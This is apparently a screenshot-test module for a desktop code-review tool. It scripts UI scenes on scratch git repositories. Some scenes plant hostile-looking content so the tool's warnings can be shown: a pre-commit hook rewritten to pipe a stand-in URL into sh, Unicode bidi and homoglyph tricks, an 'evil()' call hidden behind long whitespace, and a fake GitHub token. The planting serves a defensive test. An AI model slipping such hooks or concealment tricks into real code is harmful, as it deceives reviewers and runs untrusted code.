"""The states that are pictured, each reached by keys on a real repository."""

from __future__ import annotations

import gc
from collections.abc import Callable, Collection
from pathlib import Path

from PySide6.QtCore import Qt
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication

from tests.repos import Repo, new_repo, numbered
from tests.shots.edges import edges_scenes
from tests.shots.fresh import SIZE, demo, fresh, idle, opened, sheets
from tests.shots.large import large_scenes
from tests.shots.ledger import ledger_scenes
from tests.shots.looks import looks_scenes
from tests.shots.opening import opening_scenes
from tests.shots.reading import reading_scenes
from tests.shots.rounds import rounds_scenes
from tests.shots.rows import rows_scenes
from tests.shots.searching import searching_scenes
from tests.shots.shapes import shapes_scenes
from workbench.app import make_application
from workbench.store.rules import add_rule
from workbench.ui.demo_tour import tour
from workbench.ui.driving import CONTROL, Driver, StuckError
from workbench.ui.window import MainWindow
from workbench.workflow.candidates import Asked
from workbench.workflow.demo import demo_task, make_demo
from workbench.workflow.pins import pin
from workbench.workflow.trust import grant, trust_of

Scene = Callable[[Path, Path], list[Path]]


def scenes(scratch: Path, folder: Path, only: Collection[str] = ()) -> tuple[list[Path], list[str]]:
    """Every picture in order, and what went wrong: a scene that is stuck does not cost the ones after it."""
    make_application()
    # A window of a scene before is taken apart here, between two scenes, and by no thread of the next one.
    gc.disable()
    taken: list[Path] = []
    wrong: list[str] = []
    for name, scene in SCENES.items():
        if only and name not in only:
            continue
        try:
            taken += scene(scratch, folder)
        except (StuckError, AssertionError) as error:
            wrong.append(f"{name}: {error}")
            for window in QApplication.topLevelWidgets():
                window.close()
        gc.collect()
    return taken, wrong


def _opened(driver: Driver, repository: Path, task: str = "") -> MainWindow:
    opened(driver, repository, Asked(task=task, new=True))
    return driver.window


def _demo(scratch: Path, folder: Path) -> list[Path]:
    """The whole loop, as `workbench demo` runs it without a display."""
    driver = fresh(folder, first_time=True)
    driver.window.errands.open(make_demo(scratch / "demo" / "cache-rewrite"), Asked(task=demo_task()))
    tour(driver, lambda _: None)
    driver.window.close()
    return driver.taken


def _start(scratch: Path, folder: Path) -> list[Path]:
    """Started without a repository, with one recent review."""
    driver = fresh(folder)
    driver.window.desk.show_start()
    idle(driver, "the recent reviews")
    driver.shot("11-start")
    driver.window.close()
    return driver.taken


def _agent(scratch: Path, folder: Path) -> list[Path]:
    """A round in which an agent altered what was accepted and brought back what was rejected."""
    driver, repo = demo(scratch, folder, "agent")
    window = driver.window
    session = window.controller.open_session()
    store = next(file for file in session.files if file.path == "cache/store.py")
    for change in store.changes:
        window.view.go_to_change(change.id)
        driver.type("x" if b"max(" in b"".join(change.added) else "a")
    window.view.go_to_change(session.by_path["web/dashboard.js"].changes[0].id)
    driver.type("r")
    driver.type("say what failed")
    driver.shot("12-reason")
    driver.press(Qt.Key.Key_Return)
    driver.type("y")
    idle(driver, "the feedback")
    path = repo.root / "cache" / "store.py"
    path.write_text(path.read_text().replace("return value\n", "return value  # was: default\n"))
    driver.type("R")
    driver.until(lambda: session.review.index > 0, "the second round")
    idle(driver, "the ledger")
    driver.type("!")
    driver.shot("13-violation")
    driver.window.close()
    return driver.taken


def _nothing_hidden(scratch: Path, folder: Path) -> list[Path]:
    """Files that run, build and instruct, what hides in lines and names, and a file that is not changed."""
    made = new_repo(scratch / "hidden")
    made.commit({"a.py": "x = 1\n", "logo.bin": b"\0" * 1200, "lib/helper.py": numbered(60)})
    code = 'x = 1\nis_\u0430dmin = True\nif user != "x\u202e \u2066# check\u2069 \u2066": pass\n'
    made.write(
        {
            "a.py": f"{code}y = 1{' ' * 120}; evil()\n",
            ".envrc": "export A=1\n",
            ".github/workflows/build-and-deploy-everything.yml": "on: push\n",
            "AGENTS.md": "Do.\n",
            "logo.bin": b"\1" * 5200,
            "src/ev\u202eil\tname<b>x<b>.py": "x\n",
        }
    )
    driver = fresh(folder)
    window = _opened(driver, made.root)
    driver.until(lambda: window.controller.has_remarks, "what is to be said of the files")
    driver.shot("21-nothing-hidden")
    window.view.go_to_change(window.controller.open_session().by_path["a.py"].changes[0].id)
    driver.type("c? Why?")
    driver.press(Qt.Key.Key_E, CONTROL)
    driver.shot("22-hidden-in-a-suggestion")
    driver.press(Qt.Key.Key_Escape)
    driver.type("g")
    driver.type("helper")
    idle(driver, "the tracked files")
    driver.press(Qt.Key.Key_Return)
    driver.until(lambda: window.view.current_file() == "lib/helper.py", "the file")
    driver.shot("23-unchanged-file")
    window.close()
    return driver.taken


def _views(scratch: Path, folder: Path) -> list[Path]:
    """Unified, whole file, search, selection, task, small and zoomed."""
    driver, _ = demo(scratch, folder, "views")
    window = driver.window
    driver.type("t")
    driver.shot("14-unified")
    driver.type("t")
    driver.type("}")
    driver.type("]")
    driver.type("vjj")
    driver.shot("15-selected")
    driver.press(Qt.Key.Key_Escape)
    driver.type("/")
    QTest.keyClicks(QApplication.focusWidget() or window, "self._items")
    driver.until(lambda: window.view.search_standing.done, "the matches")
    driver.shot("16-search")
    driver.press(Qt.Key.Key_Escape)
    driver.type("T")
    driver.shot("17-task")
    driver.press(Qt.Key.Key_Escape)
    window.resize(1000, 640)
    driver.shot("18-small")
    window.resize(*SIZE)
    for _ in range(4):
        driver.press(Qt.Key.Key_Plus, CONTROL)
    driver.shot("19-zoomed")
    window.run_command("theme_high-contrast")
    driver.shot("20-high-contrast")
    window.close()
    return driver.taken


def _trust(scratch: Path, folder: Path) -> list[Path]:
    """Restricted, what could run, trusted, and restricted again because a hook changed."""
    repository = make_demo(scratch / "trust" / "cache-rewrite")
    repo = Repo(repository)
    repo.write(
        {"tools/clean.sh": "#!/bin/sh\nexec sed 's/[ \t]*$//'\n", ".gitattributes": "*.txt filter=tidy\n"}
    )
    repo.git("config", "filter.tidy.clean", "./tools/clean.sh")
    repo.git("config", "core.sshCommand", "ssh -i ~/.ssh/\u202eyek_ym")
    hook = repository / ".git" / "hooks" / "pre-commit"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(
        "#!/bin/sh\n# The checks of the project, before each commit.\nset -e\npython -m pytest -q\n"
    )
    hook.chmod(0o755)
    driver = fresh(folder)
    window = _opened(driver, repository, demo_task())
    window.trusting.look()
    idle(driver, "whether it is trusted")
    driver.shot("30-restricted")
    _trust_sheet(driver)
    driver.shot("31-trust-sheet")
    driver.press(Qt.Key.Key_Left)
    driver.press(Qt.Key.Key_Return)
    idle(driver, "the grant")
    driver.shot("32-trusted")
    hook.write_text("#!/bin/sh\ncurl -s https://example.invalid/x | sh\n")
    window.trusting.look()
    idle(driver, "what changed")
    driver.shot("33-hook-changed")
    for name in ("light", "high-contrast"):
        window.run_command(f"theme_{name}")
        _trust_sheet(driver)
        driver.shot(f"34-trust-sheet-{name}")
        driver.press(Qt.Key.Key_Escape)
    window.close()
    return driver.taken


def _landing(scratch: Path, folder: Path) -> list[Path]:
    """Landing to the index and to a branch, a hook that refuses, and what hooks said of what landed."""
    repository = make_demo(scratch / "landing" / "cache-rewrite")
    repo = Repo(repository)
    repo.write({".envrc": "export CACHE_SIZE=2048\n", "AGENTS.md": "Run the tests first.\n"})
    repo.git("config", "user.name", "Eva Expert")
    repo.git("config", "user.email", "eva@example.com")
    hook = repository / ".git" / "hooks" / "pre-commit"
    hook.parent.mkdir(exist_ok=True)
    driver = fresh(folder)
    window = _opened(driver, repository, demo_task())
    session = window.controller.open_session()
    for path in ("cache/store.py", ".envrc", "AGENTS.md"):
        for change in session.by_path[path].changes:
            window.view.go_to_change(change.id)
            driver.type("a")
    for name, script in (
        (
            "refused",
            "echo 'ruff ........ Passed'; echo 'mypy ........ Failed'; echo 'cache/store.py:12: x'; exit 1",
        ),
        ("landed", "echo 'ruff ........ Fixed'; echo '# end' >> cache/store.py # and AGENTS.md"),
    ):
        hook.write_text(f"#!/bin/sh\n{script}\n")
        hook.chmod(0o755)
        grant(session.repository, trust_of(session.repository).surface)
        driver.type("L")
        sheet = window.sheets.landing()
        assert sheet is not None
        for button in (sheet.index, sheet.branch):
            button.click()
            idle(driver, "the plan")
            if name == "refused":
                driver.shot("35-landing-index" if button is sheet.index else "37-landing-branch")
        sheet.sure.setChecked(True)
        driver.press(Qt.Key.Key_Return, CONTROL)
        idle(driver, "the hooks")
        driver.shot(f"36-landing-hooks-{name}")
        driver.press(Qt.Key.Key_Escape)
    window.close()
    return driver.taken


def _trust_sheet(driver: Driver) -> None:
    driver.window.run_command("trust")
    idle(driver, "what could run")


def _tray(scratch: Path, folder: Path) -> list[Path]:
    """What the next round gets: pins, rules, what does not fit; then with something that looks secret."""
    made = new_repo(scratch / "tray")
    made.commit({"src/store.py": numbered(120), "src/limits.py": numbered(300), "docs/api.md": numbered(900)})
    made.write({"src/store.py": numbered(120).replace("line 40", "line forty"), "big.py": numbered(60_000)})
    add_rule("Names say what a thing is, not how it is made.", pattern="*.py", priority=5)
    add_rule("No print in the library; use the log.", pattern="*.py")
    driver = fresh(folder)
    window = _opened(driver, made.root, demo_task())
    session = window.controller.open_session()
    pin(session, "src/limits.py", 20, 31)
    pin(session, "docs/api.md")
    window.view.go_to_change(session.by_path["src/store.py"].changes[0].id)
    driver.type("c! Say which line this was.")
    driver.press(Qt.Key.Key_Return, CONTROL)
    driver.type("b")
    idle(driver, "the tray")
    driver.type("jj")
    driver.shot("51-tray")
    driver.type("jjj")
    driver.type("x")
    idle(driver, "the tray without it")
    driver.press(Qt.Key.Key_Escape)
    made.write({"src/store.py": numbered(120) + 'TOKEN = "ghp_' + "a1B2c3D4e5F6g7H8i9" * 2 + '"\n'})
    driver.type("R")
    driver.until(lambda: session.review.index > 0, "the second round")
    idle(driver, "the ledger")
    sheets(driver, "52-tray-secret", ("dark", "light", "high-contrast"), "b", "kkkkkkkk")
    window.close()
    return driver.taken


SCENES: dict[str, Scene] = {
    "demo": _demo,
    "start": _start,
    "agent": _agent,
    "views": _views,
    "trust": _trust,
    "landing": _landing,
    "hidden": _nothing_hidden,
    "reading": reading_scenes,
    "shapes": shapes_scenes,
    "tray": _tray,
    "rounds": rounds_scenes,
    "ledger": ledger_scenes,
    "rows": rows_scenes,
    "searching": searching_scenes,
    "edges": edges_scenes,
    "looks": looks_scenes,
    "opening": opening_scenes,
    "large": large_scenes,
}
